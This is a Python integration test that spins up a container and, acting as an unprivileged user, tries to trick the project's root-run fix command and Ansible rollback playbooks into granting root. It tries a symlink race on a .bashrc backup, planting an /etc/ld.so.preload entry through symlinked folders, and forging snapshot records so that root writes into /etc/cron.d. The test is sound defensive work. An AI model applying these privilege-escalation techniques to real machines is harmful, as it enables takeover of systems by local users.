"""Tries, as an ordinary user of a machine, to become root by what root does with this project.

usage: python tests/integration/attacks/become_root.py [CHECKOUT]

The machine is a container of the sandbox. Its user mallory is only somebody with an account, and
root runs the project of CHECKOUT (by default this one): ``rdna1-preflight fix``, the role snapshot
and the playbook rollback. Says of each way whether it led to something of root's; the exit status
is 1 if one did.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
import tempfile
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import NamedTuple

ROOT = Path(__file__).parents[3]
if __name__ == "__main__":
    sys.path.insert(0, str(ROOT / "tests"))

from rdna1.catalog.repositories import distribution  # noqa: E402 - found by the line above
from support.boxes import Box, remove_box, start_box  # noqa: E402 - as above

ROOTS = "/etc/rdna1-private"
PRELOAD = "/etc/ld.so.preload"
HOME = "/home/mallory"
# Waits for the backup that root makes of a start file, and puts a link to root's file in its place.
RACE = f"""
import os
backup, aside, end = "{HOME}/.bashrc.rdna1-backup", "{HOME}/aside", "{HOME}/end"
print("waiting", flush=True)
while not os.path.exists(end):
    try:
        os.rename(backup, aside)
    except FileNotFoundError:
        continue
    os.symlink("{ROOTS}", backup)
    break
"""
# Large, so that root writes it for a while.
START_FILE = f"""
with open("{HOME}/.bashrc", "w") as file:
    file.write("# x\\n" * 200_000 + "export MIOPEN_FIND_ENFORCE=3\\n")
"""
CRON, HOME_FILES = "/etc/cron.d", f"{HOME}/.config/rdna1"
# Root's Python where sudo keeps HOME, as `sudo -E` does.
KEPT_HOME = "/usr/local/bin/python3-with-home"
# Says in the user's own records that a file was one of root's; prints how many entries do so now.
FORGE = f"""
import glob, json
forged = 0
for path in glob.glob("{HOME}/.local/state/rdna1/snapshots/*/*.json"):
    with open(path) as file:
        content = json.loads(file.read().replace("{HOME_FILES}", "{CRON}"))
    for place, entry in content["files"].items():
        if place.startswith("{CRON}"):
            entry.pop("parents", None)
            forged += place.endswith("/evil")
    with open(path, "w") as file:
        json.dump(content, file)
print(forged)
"""


class Attempt(NamedTuple):
    """One way to root, and what was found of it afterwards."""

    way: str
    led_to_root: bool
    found: str

    def __str__(self) -> str:
        """Return it as one line."""
        return f"{'BECAME ROOT' if self.led_to_root else 'kept out   '}  {self.way}: {self.found}"


class Machine:
    """A container with a user, and root's runs of a checkout's programs in it."""

    def __init__(self, box: Box, checkout: Path) -> None:
        """Make the user."""
        self._box = box
        self._checkout = checkout
        box.run("useradd", "--create-home", "mallory")

    def as_root(self, script: str) -> str:
        """Run a shell script as root; what it prints on errors is lost."""
        return self._box.run("sh", "-c", script)

    def as_user(self, program: str) -> subprocess.Popen[str]:
        """Start a Python program of the user."""
        command = ["podman", "exec", "--user", "mallory", self._box.name, "python3", "-c", program]
        return subprocess.Popen(command, stdout=subprocess.PIPE, text=True)

    def done_as_user(self, script: str) -> None:
        """Run a shell script of the user."""
        self._box.run("su", "mallory", "-c", script)

    def fix(self) -> str:
        """Run ``fix`` as root; return what it says, whatever came of it."""
        program = [f"PYTHONPATH={self._checkout}/installer", "python3"]
        options = ["-m", "rdna1.cli.preflight", "fix", "--only-settings", "--all-users", "--yes"]
        done = subprocess.run(
            ["podman", "exec", self._box.name, "env", *program, *options],
            capture_output=True,
            text=True,
            check=False,
        )
        return done.stdout + done.stderr

    def ansible(self, *command: str, variables: Mapping[str, object], refused: bool = False) -> str:
        """Run one of Ansible's commands of the checkout against the machine.

        Args:
            command: its words.
            variables: of the machine.
            refused: whether it may fail.
        """
        inventory = self._box.folder / "inventory.json"
        always = {
            "ansible_become": False,
            "ansible_connection": "box",
            "ansible_python_interpreter": "/usr/bin/python3",
        }
        hosts = {self._box.name: {**always, **variables}}
        inventory.write_text(json.dumps({"all": {"hosts": hosts}}))
        programs = Path(sys.executable).parent
        done = subprocess.run(
            [programs / command[0], f"--inventory={inventory}", *command[1:]],
            cwd=self._checkout,
            env={
                **os.environ,
                "PATH": f"{programs}:{os.environ['PATH']}",
                "PYTHONPATH": f"{self._checkout}/installer",
                "ANSIBLE_NOCOLOR": "1",
            },
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            check=False,
        )
        assert refused or done.returncode == 0, done.stdout + done.stderr
        return done.stdout


@contextmanager
def machine(checkout: Path, folder: Path) -> Iterator[Machine]:
    """A machine that can run the programs of a checkout with its own Python.

    Args:
        checkout: of the project.
        folder: for files of this process.
    """
    name = f"rdna1-test-{os.getpid()}-attacks"
    try:
        box = start_box(name, folder, [f"--volume={checkout}:{checkout}:ro"])
        box.run("apt-get", "-qq", "update")
        box.run("apt-get", "-qq", "--yes", "install", *distribution().own_requirements)
        yield Machine(box, checkout)
    finally:
        remove_box(name)


def race_for_the_backup(attacked: Machine, rounds: int) -> Attempt:
    """Swap the backup that ``fix`` makes of a start file for a link to a file of root's."""
    won: list[str] = []
    repaired = 0
    for _ in range(rounds):
        attacked.as_root(f"rm -f {HOME}/.bashrc* {HOME}/aside {HOME}/end {ROOTS}")
        attacked.as_root(f"umask 077; echo secret > {ROOTS}")
        attacked.done_as_user(f"python3 -c {shlex.quote(START_FILE)}")
        with attacked.as_user(RACE) as racer:
            assert racer.stdout is not None
            racer.stdout.readline()
            said = attacked.fix()
            attacked.as_root(f"touch {HOME}/end")
        assert "remove MIOPEN_FIND_ENFORCE from" in said, said
        repaired += "done    remove" in said
        state = attacked.as_root(f"stat -c '%U %a' {ROOTS}").strip()
        if state != "root 600":
            won.append(state)
    found = f"{ROOTS} became {', '.join(sorted(set(won)))}" if won else f"{ROOTS} is as it was"
    found += f"; {repaired} of {rounds} files repaired"
    return Attempt("fix, a link in the place of its backup", bool(won), found)


def rollback_of_named_files(
    attacked: Machine, folders: Sequence[str], variables: Mapping[str, object], who: str
) -> Attempt:
    """Have a rollback put back, into /etc, files that a unit of the user names."""
    places = {folder: os.path.normpath(folder) for folder in folders}
    all_places = " ".join(places.values())
    unit = f"{HOME}/.config/systemd/user/x.service"
    attacked.as_root(f"rm -rf {all_places} /var/lib/rdna1 {HOME}/.local {HOME}/.config {PRELOAD}")
    attacked.done_as_user(f"mkdir -p {Path(unit).parent}; echo '[Service]' > {unit}")
    for folder, real in places.items():
        attacked.done_as_user(
            f"mkdir -p {real}; echo {real}/evil.so > {real}/ld.so.preload;"
            f"echo EnvironmentFile=-{folder}/ld.so.preload >> {unit}"
        )
    record(attacked, "before", variables)
    for real in places.values():
        attacked.done_as_user(f"rm {real}/ld.so.preload")
    record(attacked, "after", variables)
    for real in places.values():
        attacked.done_as_user(f"rm -r {real}; ln -s /etc {real}")
    attacked.ansible("ansible-playbook", "playbooks/rollback.yml", variables=variables)
    left = attacked.as_root(f"cat {PRELOAD} 2>/dev/null; rm -rf {PRELOAD} {all_places}").strip()
    found = f"{PRELOAD} now holds {left}" if left else f"there is no {PRELOAD}"
    return Attempt(f"rollback, {' '.join(folders)} named by a unit, {who}", bool(left), found)


def rollback_of_a_forged_record(attacked: Machine) -> Attempt:
    """Have root carry out a record of a provisioning without root, which is the user's to write."""
    attacked.as_root(f"rm -rf {HOME}/.local {HOME}/.config; mkdir -p {CRON}; rm -f {CRON}/evil")
    attacked.done_as_user(f"mkdir -p {HOME_FILES}; echo evil > {HOME_FILES}/evil")
    users = {"rdna1_scope": "user", "ansible_user": "mallory"}
    record(attacked, "before", users)
    attacked.done_as_user(f"rm {HOME_FILES}/evil")
    record(attacked, "after", users)
    with attacked.as_user(FORGE) as forging:
        forged = int(forging.communicate()[0])
    assert forged > 0, "the record does not hold the file"
    attacked.as_root(
        f"printf '#!/bin/sh\\nHOME={HOME} exec /usr/bin/python3 \"$@\"\\n' > {KEPT_HOME};"
        f"chmod 755 {KEPT_HOME}"
    )
    roots = {"rdna1_scope": "user", "ansible_python_interpreter": KEPT_HOME}
    playbook = "playbooks/user_rollback.yml"
    attacked.ansible("ansible-playbook", playbook, variables=roots, refused=True)
    left = attacked.as_root(f"cat {CRON}/evil 2>/dev/null; rm -f {CRON}/evil").strip()
    found = f"{CRON}/evil now holds {left}" if left else f"there is no {CRON}/evil"
    found += f"; {forged} entry forged"
    return Attempt("rollback of a user's record by root, whose HOME is kept", bool(left), found)


def record(attacked: Machine, moment: str, variables: Mapping[str, object]) -> None:
    """Have a run write down the state before or after it."""
    role = ["all", "--module-name=include_role", "--args=name=snapshot"]
    given = {**variables, "snapshot_moment": moment}
    attacked.ansible("ansible", *role, variables=given)


def attempts(attacked: Machine, rounds: int = 5) -> Iterator[Attempt]:
    """Try all ways."""
    yield race_for_the_backup(attacked, rounds)
    outside = "/var/tmp/mallory"  # noqa: S108 - where any user may write is what it is about
    folders = (outside, "/home/../home/mallory/.conf", f"{HOME}/conf")
    yield rollback_of_named_files(attacked, folders, {}, "no user named")
    named = {"rdna1_users": ["mallory"]}
    yield rollback_of_named_files(attacked, (outside,), named, "the user named")
    yield rollback_of_a_forged_record(attacked)


def main() -> int:
    """Try all ways on the checkout that the command names; return the exit status."""
    checkout = Path(sys.argv[1]).resolve() if len(sys.argv) > 1 else ROOT
    became_root = False
    with tempfile.TemporaryDirectory() as folder, machine(checkout, Path(folder)) as attacked:
        for attempt in attempts(attacked):
            print(attempt, flush=True)
            became_root = became_root or attempt.led_to_root
    return 1 if became_root else 0


if __name__ == "__main__":
    sys.exit(main())
